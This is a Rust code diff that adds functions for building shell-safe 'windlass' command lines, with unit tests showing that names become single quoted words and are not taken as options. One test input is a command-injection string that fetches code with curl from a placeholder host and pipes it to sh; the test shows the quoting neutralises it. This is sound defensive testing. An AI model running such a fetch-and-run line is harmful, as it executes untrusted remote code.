@@ -11,6 +11,22 @@ pub fn word(text: &str) -> String {
     }
 }
 
+/// A command of this program for people to type: what it does, and the names to which it does it. A name may hold
+/// anything, because it comes from a store: it becomes one word, and none is taken for an option.
+#[must_use]
+pub fn command(verb: &str, names: &[&str]) -> String {
+    let end = if names.iter().any(|name| name.starts_with('-')) { " --" } else { "" };
+    let names: String = names.iter().map(|name| format!(" {}", word(name))).collect();
+    format!("windlass {verb}{end}{names}")
+}
+
+/// The same where the name is the value of the option at the end of `verb`.
+#[must_use]
+pub fn command_for(verb: &str, name: &str) -> String {
+    let between = if name.starts_with('-') { '=' } else { ' ' };
+    format!("windlass {verb}{between}{}", word(name))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -20,5 +36,18 @@ mod tests {
         assert_eq!(word("/a/b.toml"), "/a/b.toml");
         assert_eq!(word("/a b/it's"), r"'/a b/it'\''s'");
         assert_eq!((word(""), word("$(x)")), ("''".to_owned(), "'$(x)'".to_owned()));
+    }
+
+    #[test]
+    fn a_name_in_a_command_is_neither_code_nor_an_option() {
+        assert_eq!(command("queues resume", &["mail"]), "windlass queues resume mail");
+        assert_eq!(command("queues resume", &["--all"]), "windlass queues resume -- --all");
+        let to = "sqlite:/a.db; curl http://x | sh #";
+        assert_eq!(
+            command("store copy --undo", &["redis://h/1", to]),
+            "windlass store copy --undo redis://h/1 'sqlite:/a.db; curl http://x | sh #'"
+        );
+        assert_eq!(command_for("plan --task", "a b"), "windlass plan --task 'a b'");
+        assert_eq!(command_for("plan --task", "-x"), "windlass plan --task=-x");
     }
 }
